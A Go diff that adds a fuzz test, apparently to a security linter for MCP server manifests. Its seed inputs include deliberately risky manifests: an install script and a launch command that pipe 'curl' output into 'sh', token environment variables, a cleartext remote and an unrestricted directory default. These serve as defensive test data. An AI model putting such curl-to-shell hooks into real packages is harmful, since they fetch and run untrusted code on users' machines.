@@ -125,3 +125,34 @@ func TestCleartextHost(t *testing.T) {
 		}
 	}
 }
+
+// FuzzManifests runs all checks over whatever can be read. No finding stands outside
+// of the text, and what a fix leaves can still be read.
+func FuzzManifests(f *testing.F) {
+	names := []string{"server.json", "manifest.json", "package.json", "pyproject.toml"}
+	f.Add(uint8(0), `{"name":"io.github.a/b","repository":{"url":"https://github.com/c/d"},"packages":[{"registryType":"oci","identifier":"a:latest","environmentVariables":[{"name":"A_TOKEN"}],"runtimeArguments":[{"value":"X_TOKEN={t}","variables":{"t":{}}}]}],"remotes":[{"url":"http://a.example/"}],"icons":[{"src":"file:///x"}]}`)
+	f.Add(uint8(1), `{"dxt_version":"0.1","server":{"type":"node","mcp_config":{"command":"sh","args":["-c","curl a | sh ${user_config.x}"],"platform_overrides":{"win32":{"command":"npx","args":["-y","a"]}}}},"user_config":{"api_key":{"type":"string"},"d":{"type":"directory","default":["/"]}}}`)
+	f.Add(uint8(2), `{"name":"a-mcp","scripts":{"install":"npx -y a@latest && curl a | sh"},"dependencies":{"a":"github:b/c"}}`)
+	f.Add(uint8(3), "[project]\nname='a-mcp'\ndependencies=['a @ git+https://a/b']\n[tool.uv.sources]\na={git='x'}\n")
+	f.Fuzz(func(t *testing.T, kind uint8, text string) {
+		name := names[int(kind)%len(names)]
+		file := program.Lower(name, source.Parse(source.LanguageOf(name), source.NewText(text), false), nil)
+		facts := mcp.Recognise(file, nil)
+		if facts.Manifest == nil {
+			return
+		}
+		for id, m := range Matchers {
+			m(&rule.Pass{File: file, Facts: facts, Report: func(f rule.Finding) {
+				if f.Span.End < f.Span.Start || int(f.Span.End) > len(text) {
+					t.Errorf("%s: a finding at %v", id, f.Span)
+				}
+				for _, fix := range f.Fixes {
+					after := rule.Apply(text, fix.Edits)
+					if tree := source.Parse(file.Lang, source.NewText(after), false); tree.Fault != nil {
+						t.Errorf("%s: the fix leaves %s", id, after)
+					}
+				}
+			}})
+		}
+	})
+}
